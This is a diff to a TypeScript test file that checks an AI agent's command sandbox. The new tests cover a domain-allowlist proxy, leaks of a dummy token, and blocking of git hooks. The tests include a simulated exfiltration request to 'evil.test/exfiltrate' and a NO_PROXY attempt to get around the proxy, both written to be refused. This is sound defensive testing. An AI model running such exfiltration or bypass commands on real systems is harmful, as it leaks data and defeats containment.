@@ -1,12 +1,15 @@
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { type AddressInfo, connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { WorktreeSandboxes } from '../../../src/agent/exec/sandbox-host.js';
+import { type DomainProxy, startDomainProxy } from '../../../src/agent/exec/domain-proxy.js';
+import { createSandboxHost, type WorktreeSandboxes } from '../../../src/agent/exec/sandbox-host.js';
 import { runShell } from '../../../src/agent/tools/run-shell.js';
 import { worktreeGitDirs, writeCleanConfig } from '../../../src/session/git/worktree-view.js';
-import { testSandboxHost } from '../../helpers/sandbox.js';
+import { sandboxFacts, testSandboxHost } from '../../helpers/sandbox.js';
 
 const SECRET = 'ghs_sandboxProbeSecret0123456789abcdef';
 let root: string;
@@ -141,5 +144,81 @@ describe("the sandbox around the agent's commands (real bubblewrap)", () => {
     expect(result.output).not.toContain(Buffer.from(`x-access-token:${SECRET}`).toString('base64'));
     expect(readFileSync(join(checkout, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
     expect(existsSync(join(checkout, '.git', 'hooks', 'post-index-change'))).toBe(false);
+  });
+});
+
+describe('sandbox.allow_domains: the listed hosts through the harness proxy, nothing else', () => {
+  let server: Server;
+  let port: number;
+  let proxy: DomainProxy;
+  const denied: string[] = [];
+  let commands: WorktreeSandboxes['commands'];
+
+  beforeAll(async () => {
+    server = createServer((req, res) => res.end(`registry says hi to ${req.url}\n`));
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    port = (server.address() as AddressInfo).port;
+    // registry.test and *.mirror.test are "the internet": loopback servers the proxy reaches by name.
+    proxy = await startDomainProxy({
+      allow: ['registry.test', '*.mirror.test'],
+      connect: (_port, _host) => connect(port, '127.0.0.1'),
+      onDenied: (host) => denied.push(host),
+    });
+    const facts = await sandboxFacts();
+    const dirs = await worktreeGitDirs(worktree);
+    const cleanConfig = join(checkout, '.issueloop', 'worktrees', '.issue-1.gitconfig');
+    commands = createSandboxHost({ mode: 'os', network: 'none', read_only: [] }, facts, proxy).forWorktree({
+      worktree,
+      git: dirs,
+      cleanConfig,
+    }).commands;
+  });
+  afterAll(async () => {
+    await proxy.close();
+    await new Promise((resolve) => server.close(resolve));
+  });
+
+  const fetchIn = async (url: string) => {
+    const script = `fetch(${JSON.stringify(url)}).then(async (r) => console.log(r.status, await r.text())).catch((e) => console.log('failed', e.cause?.code ?? e.message))`;
+    return runShell(`node -e ${JSON.stringify(script)}`, {
+      cwd: worktree,
+      env,
+      timeoutMs: 20_000,
+      maxOutputChars: 10_000,
+      signal: new AbortController().signal,
+      sandbox: commands,
+    });
+  };
+
+  it('reaches an allowed host and its allowed subdomains', async () => {
+    expect((await fetchIn('http://registry.test/pkg')).output).toBe('200 registry says hi to /pkg\n\n');
+    expect((await fetchIn('http://eu.mirror.test/x')).output).toContain('200 registry says hi to /x');
+  });
+
+  it('is refused every other host, over plain HTTP and CONNECT alike, and the refusal is logged', async () => {
+    // Node tunnels plain HTTP through CONNECT too: refused either way.
+    const plain = await fetchIn('http://evil.test/exfiltrate');
+    expect(plain.output).toMatch(
+      /^failed|^403 issueloop sandbox: evil\.test is not in sandbox\.allow_domains/,
+    );
+    expect(plain.output).not.toContain('registry says hi');
+    const tls = await fetchIn('https://mirror.test.evil.test/');
+    expect(tls.output).toMatch(/^failed/);
+    expect(denied).toEqual(expect.arrayContaining(['evil.test', 'mirror.test.evil.test']));
+  });
+
+  it('cannot go around the proxy: the host itself is not reachable from inside', async () => {
+    const direct = await runShell(
+      `NO_PROXY='*' node -e "fetch('http://127.0.0.1:${port}/').then(()=>console.log('reached')).catch(()=>console.log('unreachable'))"`,
+      {
+        cwd: worktree,
+        env,
+        timeoutMs: 20_000,
+        maxOutputChars: 10_000,
+        signal: new AbortController().signal,
+        sandbox: commands,
+      },
+    );
+    expect(direct.output.trim()).toBe('unreachable');
   });
 });
